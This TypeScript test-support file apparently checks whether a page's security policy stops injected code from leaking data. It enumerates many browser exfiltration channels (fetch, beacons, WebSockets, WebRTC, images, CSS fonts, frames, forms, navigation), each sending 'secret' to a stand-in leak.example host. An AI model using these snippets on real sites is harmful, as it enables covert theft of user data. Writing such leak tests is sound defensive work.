import type { Recorder } from '../support/recorder.ts';

/** What an attempt is told: where what it leaks would show. */
interface Drain {
  readonly name: string;
  /** A host that no other attempt knows of. */
  readonly host: string;
  /** An address of it. */
  readonly address: string;
  readonly udp: Recorder['udp'];
}

/** What code tries that somebody brought into the page. It runs there, so it knows nothing but what it is told. */
type Attempt = (drain: Drain) => unknown;

export type Attempts = Readonly<Record<string, Attempt>>;

/** How those show that name no host. */
const TRACES: Readonly<Record<string, string>> = {
  'webrtc-stun': 'stun',
  'web-transport': 'quic',
  'own-image': '/secret.png',
  'own-import': '/assets/secret.js',
  'trust-frame': 'tuf-repo-cdn.sigstore.dev/?secret',
};

/** A page or a worker. */
interface Target {
  evaluate(code: string): Promise<unknown>;
}

/** Milliseconds after which an attempt that has not ended is not waited for. */
const PATIENCE = 3000;

/** Milliseconds that what should come through may take. */
const LATEST = 20_000;

/**
 * Has all of it tried; gives the names of what came through, in their order.
 *
 * @param where gives where the next attempt is made
 * @param expected names of what should come through: they are waited for
 */
export async function leaksOf(
  attempts: Attempts,
  { asked, udp }: Recorder,
  where: () => Promise<Target> | Target,
  expected: readonly string[] = [],
): Promise<string[]> {
  const before = asked.length;
  // Nothing of an earlier time is kept for such a host.
  const hostOf = (name: string): string => `${name}.after-${before}.leak.example`;
  const tries = Object.entries(attempts).map(async ([name, attempt]) => {
    const host = hostOf(name);
    const drain: Drain = { name, host, address: `https://${host}/`, udp };
    const target = await where();
    // As a text, so that nothing has to come back from there.
    const trying = target.evaluate(
      `(async () => { await (${String(attempt)})(${JSON.stringify(drain)}); })()`,
    );
    const givenUp = new Promise((resolve) => setTimeout(resolve, PATIENCE));
    await Promise.race([trying.catch(() => undefined), givenUp]);
  });
  await Promise.all(tries);
  const came = (): string[] => {
    const since = asked.slice(before);
    return Object.keys(attempts).filter((name) => {
      const trace = TRACES[name];
      return since.some((entry) =>
        trace === undefined ? entry.split(/[ /:]/).includes(hostOf(name)) : entry.endsWith(trace),
      );
    });
  };
  const latest = Date.now() + LATEST;
  const late = (): boolean => expected.some((name) => !came().includes(name)) && Date.now() < latest;
  // Until nothing more comes.
  for (let seen = -1; seen !== asked.length || late();) {
    seen = asked.length;
    await new Promise((resolve) => setTimeout(resolve, PATIENCE / 2));
  }
  return came();
}

/** What a document or a worker may try. */
export const ANYWHERE: Attempts = {
  fetch: ({ address }) => fetch(address, { method: 'POST', mode: 'no-cors', body: 'secret' }),
  'xml-http-request': ({ address }) => {
    const request = new XMLHttpRequest();
    request.open('POST', address);
    request.send('secret');
  },
  'event-source': ({ address }) => new EventSource(address),
  'web-socket': ({ host }) => new WebSocket(`wss://${host}/`),
  'web-transport': ({ udp }) => new WebTransport(`https://127.0.0.1:${udp.quic}/`).ready,
  import: ({ address }) => import(address),
  font: ({ address }) => new FontFace('secret', `url(${address})`).load(),
  worker: ({ address }) => {
    const code = `fetch(${JSON.stringify(address)}, { mode: 'no-cors' })`;
    return new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
  },
};

/** Loads what the relation says, from another host. */
const hint: Attempt = ({ name, address }) => {
  const as = name === 'preload' ? 'image' : '';
  document.head.append(Object.assign(document.createElement('link'), { rel: name, as, href: address }));
};

/** Connects from within a file of the site that has another policy, or none. */
const reachIntoFrame: Attempt = async ({ name, address }) => {
  const frame = Object.assign(document.createElement('iframe'), { src: name });
  document.body.append(frame);
  await new Promise((resolve) => {
    frame.addEventListener('load', resolve);
  });
  await frame.contentWindow?.fetch(address, { mode: 'no-cors' });
};

const reachIntoWindow: Attempt = async ({ name, address }) => {
  const opened = window.open(name);
  while (opened?.document.readyState !== 'complete' || !opened.location.href.endsWith(name))
    await new Promise((resolve) => setTimeout(resolve, 100));
  await opened.fetch(address, { mode: 'no-cors' });
};

/** What a document may try, and stays. */
export const IN_THE_PAGE: Attempts = {
  ...ANYWHERE,
  beacon: ({ address }) => navigator.sendBeacon(address, 'secret'),
  'fetch-later': ({ address }) => {
    const { fetchLater } = window as { fetchLater?: (url: string, options: object) => void };
    fetchLater?.(address, { activateAfter: 0 });
  },
  'shared-worker': ({ address }) => {
    const code = `fetch(${JSON.stringify(address)}, { mode: 'no-cors' })`;
    return new SharedWorker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
  },
  'service-worker-message': ({ address }) => {
    for (const data of [
      address,
      { url: address },
      { type: 'CACHE_URLS', payload: { urlsToCache: [address] } },
    ])
      navigator.serviceWorker.controller?.postMessage(data);
  },
  image: ({ address }) => {
    new Image().src = address;
  },
  'image-set': ({ address }) => {
    const image = new Image();
    image.srcset = `${address} 1x`;
    document.body.append(image);
  },
  audio: ({ address }) => {
    new Audio(address).load();
  },
  'video-poster': ({ address }) => {
    const video = document.createElement('video');
    video.poster = address;
    document.body.append(video);
  },
  object: ({ address }) => {
    const object = document.createElement('object');
    object.data = address;
    document.body.append(object);
  },
  script: ({ address }) => {
    const script = document.createElement('script');
    script.src = address;
    document.body.append(script);
  },
  'inline-script': ({ address }) => {
    const script = document.createElement('script');
    script.textContent = `fetch(${JSON.stringify(address)}, { mode: 'no-cors' })`;
    document.body.append(script);
  },
  markup: ({ address }) => {
    document.body.insertAdjacentHTML('beforeend', `<img alt="" src="${address}">`);
  },
  'event-handler': ({ address }) => {
    document.body.setAttribute('onclick', `fetch(${JSON.stringify(address)}, { mode: 'no-cors' })`);
    document.body.click();
  },
  'css-image': ({ address }) => {
    document.body.style.backgroundImage = `url(${address})`;
  },
  'css-sheet': ({ address }) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`body::after { content: url(${address}) }`);
    document.adoptedStyleSheets.push(sheet);
  },
  'css-font': ({ address }) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(
      `@font-face { font-family: secret; src: url(${address}) } body { font-family: secret }`,
    );
    document.adoptedStyleSheets.push(sheet);
  },
  'svg-image': ({ address }) => {
    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
    const image = document.createElementNS('http://www.w3.org/2000/svg', 'image');
    image.setAttribute('href', address);
    svg.append(image);
    document.body.append(svg);
  },
  frame: ({ address }) => {
    document.body.append(Object.assign(document.createElement('iframe'), { src: address }));
  },
  'empty-frame': ({ address }) => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    return frame.contentWindow?.fetch(address, { mode: 'no-cors' });
  },
  'bundle.html': reachIntoFrame,
  'robots.txt': reachIntoFrame,
  'trust-frame': async () => {
    const frame = Object.assign(document.createElement('iframe'), { src: 'tuf.html' });
    document.body.append(frame);
    await new Promise((resolve) => {
      frame.addEventListener('load', resolve);
    });
    await frame.contentWindow?.fetch('https://tuf-repo-cdn.sigstore.dev/?secret', { mode: 'no-cors' });
  },
  // The page’s own host learns that, too.
  'own-image': () => {
    new Image().src = 'secret.png';
  },
  'own-import': () => import(new URL('assets/secret.js', document.baseURI).href),
  form: ({ address }) => {
    const frame = Object.assign(document.createElement('iframe'), { name: 'drain' });
    const form = Object.assign(document.createElement('form'), {
      action: address,
      method: 'post',
      target: 'drain',
    });
    document.body.append(frame, form);
    form.submit();
  },
  ping: ({ address }) => {
    const link = Object.assign(document.createElement('a'), { href: '#pinged', ping: address });
    document.body.append(link);
    link.click();
  },
  stylesheet: hint,
  icon: hint,
  prefetch: hint,
  preload: hint,
  modulepreload: hint,
  'webrtc-stun': async ({ udp }) => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${udp.stun}` }] });
    connection.createDataChannel('secret');
    await connection.setLocalDescription();
  },
  'webrtc-turn': async ({ host }) => {
    const server = { urls: `turn:${host}:443?transport=tcp`, username: 'secret', credential: 'secret' };
    const connection = new RTCPeerConnection({ iceServers: [server] });
    connection.createDataChannel('secret');
    await connection.setLocalDescription();
  },
};

/** What a document may try that ends it, or opens another. */
export const BY_LEAVING: Attempts = {
  location: ({ address }) => {
    location.href = address;
  },
  'navigation-api': ({ address }) => {
    navigation.navigate(address);
  },
  'meta-refresh': ({ address }) => {
    const meta = Object.assign(document.createElement('meta'), {
      httpEquiv: 'refresh',
      content: `0;url=${address}`,
    });
    document.head.append(meta);
  },
  link: ({ address }) => {
    Object.assign(document.createElement('a'), { href: address }).click();
  },
  'link-to-a-new-tab': ({ address }) => {
    const link = Object.assign(document.createElement('a'), {
      href: address,
      target: '_blank',
      rel: 'noopener',
    });
    link.click();
  },
  'form-to-the-top': ({ address }) => {
    const form = Object.assign(document.createElement('form'), { action: address, method: 'post' });
    document.body.append(form);
    form.submit();
  },
  'window-open': ({ address }) => {
    window.open(address);
  },
  'bundle.html': reachIntoWindow,
  'robots.txt': reachIntoWindow,
};
